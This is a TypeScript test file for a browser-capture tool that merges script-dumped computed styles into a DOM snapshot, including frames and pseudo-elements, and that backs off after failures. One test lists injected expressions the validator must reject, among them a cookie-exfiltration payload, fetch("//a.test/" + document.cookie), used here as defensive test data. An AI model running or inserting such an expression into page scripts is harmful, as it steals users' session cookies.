// Merging the styles that a script dumped into a snapshot without styles: by the order of elements, or not at all.
// tests/browser/still/woven_styles.test.ts compares the result with Chromium's own.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import {
  computedStylesExpression,
  isComputedStylesExpression,
  namesOf,
  mergeStyles,
} from '../../js-glue/tool/capture/computed_styles.js';
import { ALL_STYLES } from '../../js-glue/tool/capture/session_tree.js';
import { StyleMergePolicy } from '../../js-glue/tool/capture/style_merge_policy.js';
import { PSEUDO_ELEMENTS } from '../../js-glue/tool/page/style_notation.js';

interface Node {
  name: string;
  parent: number;
  type?: number;
  hasBox?: boolean;
  isPseudo?: boolean;
  content?: number;
}

const kDocument: Node = { name: '#document', parent: -1, type: 9 };
const kText = { name: '#text', type: 3 };

function snapshotOf(...documents: Node[][]) {
  const strings: string[] = [];
  const position = (text: string): number => strings.push(text) - 1;
  const positions = (nodes: Node[], is: (node: Node) => boolean): number[] =>
    nodes.flatMap((node, k) => (is(node) ? [k] : []));
  return {
    strings,
    documents: documents.map((nodes) => {
      const boxes = positions(nodes, ({ hasBox }) => hasBox !== false);
      const owners = positions(nodes, ({ content }) => content !== undefined);
      return {
        nodes: {
          parentIndex: nodes.map(({ parent }) => parent),
          nodeType: nodes.map(({ type }) => type ?? 1),
          nodeName: nodes.map(({ name }) => position(name)),
          pseudoType: { index: positions(nodes, ({ isPseudo }) => isPseudo === true) },
          contentDocumentIndex: { index: owners, value: owners.map((k) => nodes[k]?.content ?? -1) },
        },
        layout: { nodeIndex: boxes, styles: [] as number[][], styleOf: [] as number[] },
      };
    }),
  };
}

function stylesIn({ strings, documents }: ReturnType<typeof snapshotOf>): string[][] {
  return documents.map(({ layout }) =>
    (layout.styleOf ?? []).map((row) => (layout.styles[row] ?? []).map((at) => strings[at]).join(' ')),
  );
}

/** `units` with a letter for each set, from A on. */
function dumped(sets: string[][], units: string, frames: unknown[] = []): unknown {
  return { result: { type: 'string', value: JSON.stringify({ sets, page: { units: unitsOf(units), frames } }) } };
}

function unitsOf(letters: string): string {
  return letters.replace(/[A-Z]/g, (letter) => String.fromCharCode(64 + letter.charCodeAt(0) - 65));
}

const kSets = [
  ['html', 'block'],
  ['p', 'block'],
  ['b', 'inline'],
  ['::before', 'inline'],
  ['iframe', 'inline'],
];
const kPage: Node[] = [
  kDocument,
  { name: 'HTML', parent: 0 },
  { name: 'P', parent: 1 },
  { ...kText, parent: 2 },
  { name: 'B', parent: 1 },
];

describe('weaving', () => {
  test('gives every box the set of its element, and texts that of their parent', () => {
    const snapshot = snapshotOf(kPage);
    assert.ok(mergeStyles(snapshot, dumped(kSets, 'ABC'), new Set()));
    assert.deepEqual(stylesIn(snapshot), [['', 'block', 'block', 'block', 'inline']]);
    assert.equal(snapshot.strings.filter((text) => text === 'block').length, 1);
  });

  test('gives pseudo-elements theirs, tells of them, and passes over those without a box', () => {
    const page: Node[] = [...kPage, { name: '::before', parent: 4, isPseudo: true }, { ...kText, parent: 5 }];
    const snapshot = snapshotOf(page);
    const found = new Set<string>();
    assert.ok(mergeStyles(snapshot, dumped(kSets, 'AB<DC<D'), found));
    assert.deepEqual(stylesIn(snapshot)[0]?.slice(-2), ['inline', 'inline']);
    assert.deepEqual([...found], ['::before']);
  });

  test('leaves out what has no boxes', () => {
    const page: Node[] = [
      ...kPage,
      { name: 'B', parent: 2, hasBox: false },
      { name: 'TEMPLATE', parent: 1, hasBox: false },
      { name: '#document-fragment', parent: 6, type: 11, hasBox: false },
      { name: 'LINK', parent: 7, hasBox: false },
    ];
    page[2] = { name: 'P', parent: 1, hasBox: false };
    page[3] = { ...kText, parent: 2, hasBox: false };
    const snapshot = snapshotOf(page);
    assert.ok(mergeStyles(snapshot, dumped([...kSets, ['template', 'none']], 'AB!CF!'), new Set()));
    const folded = snapshotOf(page);
    assert.ok(mergeStyles(folded, dumped([...kSets, ['template', 'none']], 'A?CF!'), new Set()));
  });

  test('goes into the frames that the script could see', () => {
    const framed: Node[] = [...kPage, { name: 'IFRAME', parent: 1, content: 1 }];
    const inner = { units: unitsOf('AC'), frames: [] };
    const inside: Node[] = [kDocument, { name: 'HTML', parent: 0 }, { name: 'B', parent: 1 }];
    const snapshot = snapshotOf(framed, inside);
    assert.ok(mergeStyles(snapshot, dumped(kSets, 'ABCE', [[3, inner]]), new Set()));
    assert.deepEqual(stylesIn(snapshot)[1], ['', 'block', 'inline']);
    assert.ok(!mergeStyles(snapshotOf(framed, inside), dumped(kSets, 'ABCE'), new Set()), 'a frame that was not told');
    const hidden = [
      { ...kDocument, hasBox: true },
      { name: 'HTML', parent: 0, hasBox: false },
    ];
    assert.ok(mergeStyles(snapshotOf(framed, hidden), dumped(kSets, 'ABCE'), new Set()), 'one without boxes');
  });

  const others: Array<[what: string, letters: string, page?: Node[]]> = [
    ['an element too many', 'ABCC'],
    ['one too few', 'AB'],
    ['another in its place', 'ACB'],
    ['a set that was never told', 'ABZ'],
    ['a mark without a set', 'ABC<'],
    ['a box where the script saw none', 'AB!C'],
    ['a box in what was folded away', 'A?C'],
    ['a pseudo-element that was not told', 'ABC', [...kPage, { name: '::after', parent: 4, isPseudo: true }]],
  ];
  for (const [what, letters, page] of others) {
    test(`does nothing with ${what}`, () => {
      assert.equal(mergeStyles(snapshotOf(page ?? kPage), dumped(kSets, letters), new Set()), false);
    });
  }

  test('takes nothing that is not what it asked for', () => {
    const good = dumped(kSets, 'ABC');
    for (const reply of [undefined, {}, { result: {} }, { result: { value: 7 } }, { result: { value: '{"sets":' } }]) {
      assert.equal(mergeStyles(snapshotOf(kPage), reply, new Set()), false);
    }
    for (const value of [
      'null',
      '[]',
      '{"sets":[[1]],"page":{"units":"","frames":[]}}',
      '{"sets":[],"page":{"units":1}}',
    ]) {
      assert.equal(mergeStyles(snapshotOf(kPage), { result: { value } }, new Set()), false);
    }
    for (const snapshot of [
      null,
      {},
      { documents: [], strings: [] },
      { documents: [{}], strings: [] },
      { documents: 3 },
    ]) {
      assert.equal(mergeStyles(snapshot, good, new Set()), false);
    }
  });
});

test('only its own expressions are known as such, with any of its names', () => {
  const expression = computedStylesExpression(ALL_STYLES, PSEUDO_ELEMENTS);
  assert.ok(isComputedStylesExpression(expression));
  assert.ok(isComputedStylesExpression(computedStylesExpression(0, [])));
  for (const other of [
    undefined,
    'document.cookie',
    expression.replace('"display"', '"display", document.cookie'),
    expression.replace('"display"', '"constructor"'),
    `${expression}, fetch("//a.test/" + document.cookie)`,
    expression.replace('getComputedStyle', 'parseInt'),
  ]) {
    assert.equal(isComputedStylesExpression(other), false, String(other).slice(-80));
  }
  assert.equal(namesOf(0b11).length, 2);
});

test('where weaving fails it is left out for longer and longer, until it succeeds again', () => {
  const weaving = new StyleMergePolicy();
  const leftOut = (): number => {
    let times = 0;
    while (!weaving.mayTry()) times += 1;
    return times;
  };
  weaving.succeeded(['::marker']);
  assert.deepEqual(weaving.pseudoElements, ['::marker']);
  const times = Array.from({ length: 8 }, () => {
    weaving.failed();
    return leftOut();
  });
  assert.deepEqual(times, [1, 2, 4, 8, 16, 32, 32, 32]);
  assert.deepEqual(weaving.pseudoElements, PSEUDO_ELEMENTS);
  weaving.succeeded([]);
  weaving.failed();
  assert.equal(leftOut(), 1);
});
